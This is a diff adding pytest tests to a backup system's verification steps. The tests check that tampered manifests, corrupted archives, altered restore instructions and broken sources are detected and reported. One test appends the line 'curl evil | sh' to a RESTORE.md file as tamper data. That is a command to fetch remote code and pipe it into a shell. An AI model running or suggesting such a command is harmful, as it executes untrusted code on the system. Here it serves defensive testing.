@@ -10,6 +10,7 @@ import pytest
 from platform_ops.backups.errors import Contradiction, Corrupt, NoPoint, NotProven
 from platform_ops.backups.points import MANIFEST, point_id
 from platform_ops.backups.steps import (
+    COPY,
     CheckPolicy,
     ChooseDrills,
     ChooseSources,
@@ -101,6 +102,67 @@ def test_a_spoilt_point_gets_no_mark(steps: Steps) -> None:
     with pytest.raises(Corrupt, match=r"files\.tar\.zst\.age"):
         steps.run(VerifyPoint, source="tree")
     assert not any(key.endswith("verified.json") for key in steps.store.objects)
+
+
+def test_a_manifest_that_changed_since_the_copy_is_not_verified(steps: Steps) -> None:
+    steps.run(CopySource, source="tree", task_id=COPY)
+    key = f"tree/{point_id(NOW, 'r1')}/{MANIFEST}"
+    steps.store.objects[key] = steps.store.objects[key].replace(b'"files":6', b'"files":5')
+    with pytest.raises(NotProven, match="not the one that copy_source wrote"):
+        steps.run(VerifyPoint, source="tree")
+
+
+def test_the_text_for_the_worst_day_is_verified_too(steps: Steps) -> None:
+    steps.run(CopySource, source="tree")
+    key = next(key for key in steps.store.objects if key.endswith("RESTORE.md"))
+    steps.store.objects[key] += b"curl evil | sh"
+    with pytest.raises(Corrupt, match=r"RESTORE\.md is not the text"):
+        steps.run(VerifyPoint, source="tree")
+
+
+def aged(steps: Steps, point: str, days: int) -> None:
+    key = f"tree/{point}/verified.json"
+    noted = json.loads(steps.store.objects[key]) | {"at": (NOW - timedelta(days=days)).isoformat()}
+    steps.store.objects[key] = json.dumps(noted).encode()
+
+
+def test_older_points_are_read_again_in_turn(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    aged(steps, old, 9)
+    steps.back_up()
+    assert steps.told[-1]["facts"]["again"] == [old]
+    steps.back_up(at=NOW + timedelta(hours=1), run_id="r2")
+    assert steps.told[-1]["facts"]["again"] == []
+
+
+def test_an_older_point_that_is_spoilt_is_found_named_and_no_longer_verified(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=9), run_id="r0")
+    aged(steps, old, 9)
+    key = next(key for key in steps.store.objects if old in key and key.endswith("files.tar.zst.age"))
+    steps.store.objects[key] += b"x"
+    with pytest.raises(Corrupt, match=old):
+        steps.back_up()
+    assert f"tree/{old}/verified.json" not in steps.store.objects
+    assert f"tree/{point_id(NOW, 'r1')}/verified.json" in steps.store.objects
+
+
+def test_a_source_with_a_bad_entry_keeps_no_other_from_being_chosen(steps: Steps) -> None:
+    steps.enter("broken", "kind: directory", "kind: tape")
+    assert steps.run(ChooseSources)["facts"]["sources"] == ["broken", "tree"]
+    assert steps.run(ChooseDrills)["facts"]["sources"] == ["broken"]
+    with pytest.raises(NotProven, match="broken can't be looked at"):
+        steps.run(RequireProofs)
+
+
+def test_a_point_that_was_not_verified_is_made_again(steps: Steps) -> None:
+    steps.run(CopySource, source="tree")
+    assert steps.run(ChooseSources)["facts"]["sources"] == ["tree"]
+
+
+def test_a_spoilt_manifest_does_not_keep_the_next_copy_from_being_made(steps: Steps) -> None:
+    old = steps.back_up(at=NOW - timedelta(days=1), run_id="r0")
+    steps.store.objects[f"tree/{old}/{MANIFEST}"] = b"{}"
+    assert steps.run(CopySource, source="tree")["outcome"] == "done"
 
 
 def test_pruning_deletes_what_no_period_keeps_and_says_why(steps: Steps) -> None:
